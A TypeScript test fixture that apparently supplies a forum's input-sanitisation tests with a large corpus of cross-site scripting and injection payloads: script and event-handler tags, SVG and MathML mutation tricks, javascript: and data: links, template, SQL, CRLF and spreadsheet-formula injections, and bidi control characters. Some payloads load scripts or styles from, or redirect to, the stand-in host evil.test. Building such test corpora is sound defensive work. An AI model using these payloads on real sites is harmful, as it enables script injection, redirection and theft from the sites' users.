/**
 * Text that tries to run code in other people's browsers or to break a page; `shown`: where it is stored otherwise than
 * typed.
 */
export type Payload = { readonly text: string; readonly shown?: string };

/**
 * Every attack calls `pwn()`, which the tripwire defines, or asks a host named evil.test, and carries the word pwn or
 * evil to be found by.
 */
const tags = [
  '<script>pwn()</script>',
  '<SCRIPT SRC=//evil.test/p.js></SCRIPT>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '"><script>pwn()</script>',
  '</title><script>pwn()</script>',
  '</textarea><script>pwn()</script>',
  '</style></noscript><script>pwn()</script>',
  '<script type=module>pwn()</script>',
  '<img id=pwn src=x onerror=pwn()>',
  '<img src=x:x onerror="pwn()">',
  '<img/src=`x`onerror=pwn()>',
  '<IMG """><script>pwn()</script>">',
  '<body onload=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>',
  '<video><source onerror=pwn()>',
  '<audio src=x onerror=pwn()>',
  '<marquee onstart=pwn()>',
  '<p onpointerover=pwn()>over</p>',
  '<select autofocus onfocus=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<iframe src=javascript:parent.pwn()>',
  '<object data="data:text/html,<script>pwn()</script>">',
  '<embed src=javascript:pwn()>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/p.css>',
  '<form action=javascript:pwn()><button>go',
  '<pwn-part onclick=pwn()>',
];
const foreign = [
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x>',
  '<svg><a xlink:href=javascript:pwn()><text y=9>go</a>',
  '<math><mi//xlink:href="data:x,<script>pwn()</script>">',
  '<math><mtext></p><style><img src onerror=pwn()></style>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<template><img src=x onerror=pwn()></template>',
];
const breakouts = [
  '" onmouseover="pwn()" x="',
  "' onfocus='pwn()' autofocus='",
  '` onerror=`pwn()',
  '\\" onload=\\"pwn()',
  "';pwn();//",
  "\\';pwn();//",
  '"}]};pwn();//',
  '*/pwn()/*',
  '-->pwn()<!--',
  '<!--<img src="--><img src=x onerror=pwn()>">',
  ']]><script>pwn()</script>',
  '<?xml version="1.0"?><x onload="pwn()"/>',
  '</script><script>pwn()</script>',
  '__proto__ constructor pwn',
];
const addresses = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()//',
  ' java\tscript:pwn()',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  'vbscript:pwn()',
  '//evil.test/%2e%2e/',
  'https://evil.test\\@good.test',
  '[go](javascript:pwn())',
  '![x](x"onerror="pwn())',
  '<javascript:pwn()>',
  '<a href="https://evil.test" target=_top>pwn</a>',
];
/** For texts in which some signs are marks. */
const marks = [
  '[pwn](javascript:pwn())',
  '[pwn](JaVa&#115;cript:pwn())',
  '[pwn](<javascript:pwn()>)',
  '[pwn](https://a:b@evil.test)',
  '![pwn](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKCk+)',
  '[pwn]: javascript:pwn()',
  '**<img src=x onerror=pwn()>**',
  '`<script>pwn("code")</script>`',
  '> <script>pwn("quote")</script>',
  '- - - - - - - - - - pwn',
];
/** What is read in a post of the forum of what is written with marks. */
const withoutMarks: Readonly<Record<string, string>> = {
  '<img/src=`x`onerror=pwn()>': '<img/src=xonerror=pwn()>',
  '` onerror=`pwn()': 'onerror=pwn()',
  '__proto__ constructor pwn': 'proto constructor pwn',
  '$(pwn) `pwn` ; pwn | pwn': '$(pwn) pwn ; pwn | pwn',
  '**<img src=x onerror=pwn()>**': '<img src=x onerror=pwn()>',
  '`<script>pwn("code")</script>`': '<script>pwn("code")</script>',
  '> <script>pwn("quote")</script>': '<script>pwn("quote")</script>',
  '- - - - - - - - - - pwn': '- - - - pwn',
};
const templates = [
  "{{constructor.constructor('pwn()')()}}",
  '$'.concat('{pwn()} #{pwn()}'),
  '<%= pwn() %> {% pwn %}',
  '$(pwn) `pwn` ; pwn | pwn',
  "Robert'); DROP TABLE pwn;--",
  '../../../../etc/pwn',
  '%00pwn%0d%0aSet-Cookie: pwn=1',
  '\\r\\nBcc: pwn@evil.test',
  "=cmd|' /C pwn'!A0",
  '@SUM(1+1)*pwn',
  '+1-1|pwn',
];
const spellings = [
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '&#60;img src=x onerror=pwn()&#62;',
  '%3Cscript%3Epwn()%3C/script%3E',
  '\\u003cscript\\u003epwn()',
  '\uFF1Cscript\uFF1Epwn()\uFF1C/script\uFF1E',
  '<style>*{background:url(//evil.test/)}</style>',
  '<p style="position:fixed;inset:0">pwn',
  '};*{display:none}/*pwn',
];
const writing: readonly Payload[] = [
  { text: 'gnp\u202Epwn\u202C end', shown: 'gnppwn end' },
  { text: '\u2066pwn\u2069\u200F!', shown: 'pwn!' },
  { text: 'pw\u200Bn\uFEFF\u2060 unseen', shown: 'pwn unseen' },
  { text: 'one\u2028pwn\u2029two', shown: 'one pwn two' },
  { text: 'bell\u0007 pwn\u001B[31m', shown: 'bell pwn[31m' },
  { text: 'שלום pwn עולם 123' },
  { text: 'مرحبا (pwn) 123' },
  { text: 'می\u200Cخواهم pwn' },
  { text: '👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈 pwn' },
  { text: 'p̷̢̛̤̈́w̸̹͝n̴̨̛̈́' },
  { text: 'ﷺ𒐫 pwn Ǆ' },
];

export const payloads: readonly Payload[] = [
  ...[tags, foreign, breakouts, addresses, marks, templates, spellings].flatMap((list) =>
    list.map((text) => ({ text })),
  ),
  ...writing,
];

/** One that breaks out of whatever it stands in, for forms: what is put into each of them once. */
export const POLYGLOT = `jaVasCript:/*'/*"/*\`/*--></title></script><img src=x onerror=pwn()>{{pwn()}}`;

/** No text at all: half a pair of surrogates, and NUL. */
export const notText = ['pwn\0', 'pwn \ud83d'];

/** Words in one piece, as many as fit, and what must be read of them: anywhere, and in posts of the forum. */
export type Pack = { readonly text: string; readonly shown: readonly string[]; readonly inPosts: readonly string[] };

/**
 * The corpus for a field of at most `most` characters, in as few pieces as can be; the last one is a word without an
 * end. Leaves out what is too long for it.
 */
export function packs(
  most: number,
  between: ' ' | '\n' = ' ',
  isFit: (text: string) => boolean = () => true,
): readonly Pack[] {
  const made: { text: string; shown: string[]; inPosts: string[] }[] = [];
  for (const { text, shown = text } of payloads.filter(({ text: one }) => one.length <= most && isFit(one))) {
    const inPosts = withoutMarks[text] ?? shown;
    const last = made.at(-1);
    if (last && last.text.length + 1 + text.length <= most) {
      last.text += between + text;
      last.shown.push(shown);
      last.inPosts.push(inPosts);
    } else made.push({ text, shown: [shown], inPosts: [inPosts] });
  }
  const endless = 'Pwn'.repeat(Math.ceil(most / 3)).slice(0, most);
  return [...made, { text: endless, shown: [endless], inPosts: [endless] }];
}
